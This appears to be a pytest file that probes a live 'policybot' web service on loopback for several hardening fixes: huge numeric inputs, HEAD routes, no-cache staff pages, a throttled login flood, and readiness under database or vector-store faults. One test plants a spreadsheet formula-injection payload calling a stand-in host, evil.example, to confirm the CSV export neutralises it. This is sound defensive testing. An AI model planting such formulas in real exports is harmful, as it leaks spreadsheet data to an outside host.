"""Issue 14 findings probed against a real `policybot serve` on loopback (not the app in-process):
numbers beyond float range, HEAD on health and static routes, staff pages never cached, the staff
CSV export's formula cells, and a login flood held by the bounded password verification."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest
from sqlalchemy import text

from bot.db import make_engine
from knowledge.kb import KnowledgeBase
from tests.postgres import free_port
from tests.scaleout.replicas import Replica, replica_env, staffed_replica

from ..databases import Databases

OTHER_SESSIONS = (
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = :db AND pid <> pg_backend_pid()"
)
STAFF = ("probe-admin", "a-long-probe-password-1")
CSRF = re.compile(r'name="csrf" value="([^"]+)"')


@pytest.fixture(scope="module")
def server(kb: KnowledgeBase, kb_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Replica]:
    root = tmp_path_factory.mktemp("live-probes")
    env = replica_env(kb_dir, f"sqlite:///{root / 'policybot.sqlite3'}", POLICYBOT_WEB_LOGIN_RATE_LIMIT="")
    with staffed_replica("live-probes", env, root, STAFF) as replica:
        yield replica


def logged_in(server: Replica) -> tuple[httpx.Client, str]:
    client = httpx.Client(base_url=server.url, timeout=30)
    token = CSRF.search(client.get("/staff/login").text)
    assert token
    done = client.post("/staff/login", data={"name": STAFF[0], "password": STAFF[1], "csrf": token.group(1)})
    assert done.status_code in {200, 303}, done.text[:300]
    csrf = CSRF.search(client.get("/staff").text)
    assert csrf
    return client, csrf.group(1)


def test_a_number_of_four_hundred_digits_is_a_chinese_422_not_a_server_error(server: Replica) -> None:
    body = '{"region": "长春", "age": ' + "9" * 400 + ', "ui_years": -' + "1" * 330 + "}"
    response = httpx.post(
        f"{server.url}/api/check", content=body, headers={"Content-Type": "application/json"}, timeout=30
    )
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "bad_profile" and "年龄" in response.json()["error"]
    assert "Traceback" not in server.log.read_text(errors="replace")


def test_health_and_static_routes_answer_head_without_a_body(server: Replica) -> None:
    for path in ("/healthz", "/readyz", "/widget.js"):
        response = httpx.head(f"{server.url}{path}", timeout=30)
        assert response.status_code == 200, path
        assert response.content == b"", path


def test_staff_pages_and_the_export_are_never_cached(server: Replica) -> None:
    client, _ = logged_in(server)
    try:
        for path in ("/staff/login", "/staff", "/staff/answers", "/staff/export/answers.csv"):
            assert "no-store" in client.get(path).headers.get("cache-control", ""), path
    finally:
        client.close()


def test_a_formula_planted_through_the_api_is_inert_in_the_staff_export(server: Replica) -> None:
    planted = '=HYPERLINK("http://evil.example/?"&A1,"长春创业补贴")'
    assert httpx.post(f"{server.url}/api/ask", json={"question": planted}, timeout=30).status_code == 200
    client, _ = logged_in(server)
    exported = ""
    try:
        for _ in range(50):  # the answer log is written behind the answer
            exported = client.get("/staff/export/answers.csv").content.decode("utf-8-sig")
            if "HYPERLINK" in exported:
                break
            time.sleep(0.2)
    finally:
        client.close()
    cells = [cell.strip('"') for line in exported.splitlines() for cell in line.split(",")]
    assert any("HYPERLINK" in cell for cell in cells), "the question was exported"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells if "HYPERLINK" in cell)


def test_a_login_flood_is_refused_by_the_bounded_password_checks_with_retry_after(server: Replica) -> None:
    """Each argon2id check takes 64 MiB: at most a few run at once; the rest get 429 and Retry-After,
    and other people's questions are still answered meanwhile."""

    def attempt(number: int) -> httpx.Response:
        with httpx.Client(base_url=server.url, timeout=60) as client:
            token = CSRF.search(client.get("/staff/login").text)
            assert token
            form = {"name": f"flood-{number}", "password": "wrong password", "csrf": token.group(1)}
            return client.post("/staff/login", data=form)

    with ThreadPoolExecutor(max_workers=24) as pool:
        flood = [pool.submit(attempt, n) for n in range(48)]
        asked = httpx.post(f"{server.url}/api/ask", json={"question": "长春创业补贴多少钱"}, timeout=60)
        responses = [f.result() for f in flood]
    statuses = [r.status_code for r in responses]
    assert set(statuses) <= {401, 429}, statuses
    busy = [r for r in responses if r.status_code == 429]
    assert busy, "the flood was never held back"
    assert all("登录的人太多" in r.text and int(r.headers["retry-after"]) >= 1 for r in busy)
    assert asked.status_code == 200 and asked.json()["status"] == "answered"


def test_a_server_started_while_the_vector_store_is_down_answers_from_the_lexical_index(
    kb: KnowledgeBase, kb_dir: Path, tmp_path: Path
) -> None:
    nowhere = f"http://127.0.0.1:{free_port()}"
    env = replica_env(kb_dir, f"sqlite:///{tmp_path / 'policybot.sqlite3'}", chroma_url=nowhere)
    replica = Replica("no-chroma", env, tmp_path)
    replica.start()
    try:
        ready = httpx.get(f"{replica.url}/readyz", timeout=30)
        assert ready.status_code == 200 and ready.json()["status"] == "degraded", ready.text
        asked = httpx.post(f"{replica.url}/api/ask", json={"question": "长春创业补贴多少钱"}, timeout=60)
        assert asked.status_code == 200 and asked.json()["status"] == "answered"
    finally:
        replica.stop()


def test_readyz_says_not_ready_while_the_database_refuses_writes_and_ready_after(
    kb: KnowledgeBase, kb_dir: Path, databases: Databases, tmp_path: Path
) -> None:
    """M3: a database that opens but cannot store a turn (here a PostgreSQL made read-only; an SQLite
    file on a read-only or full volume is tests/security/test_live_faults.py) is not ready."""
    url = databases.new_url()
    if not url.startswith("postgresql"):
        pytest.skip("PostgreSQL only: SQLite on a read-only or full volume is tests/security/test_live_faults.py")
    replica = Replica("read-only", replica_env(kb_dir, url), tmp_path)
    replica.start()
    admin = make_engine(url)
    database = admin.url.database
    try:
        assert httpx.get(f"{replica.url}/readyz", timeout=30).status_code == 200
        with admin.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
            connection.execute(text(f'ALTER DATABASE "{database}" SET default_transaction_read_only = on'))
            connection.execute(text(OTHER_SESSIONS), {"db": database})
        ready = httpx.get(f"{replica.url}/readyz", timeout=30)
        for _ in range(20):
            if ready.status_code == 503:
                break
            time.sleep(0.5)
            ready = httpx.get(f"{replica.url}/readyz", timeout=30)
        assert ready.status_code == 503 and ready.json()["checks"]["database"] is False, ready.text
        turn = httpx.post(f"{replica.url}/api/chat", json={"message": "我在长春"}, timeout=30)
        assert turn.status_code == 503 and turn.json()["code"] == "database_unavailable", turn.text
        assert httpx.get(f"{replica.url}/healthz", timeout=30).status_code == 200, "alive, just not ready"
        with admin.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
            connection.execute(text("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE"))
            connection.execute(text(f'ALTER DATABASE "{database}" SET default_transaction_read_only = off'))
            connection.execute(text(OTHER_SESSIONS), {"db": database})
        again = httpx.get(f"{replica.url}/readyz", timeout=30)
        assert again.status_code == 200, again.text
    finally:
        admin.dispose()
        replica.stop()
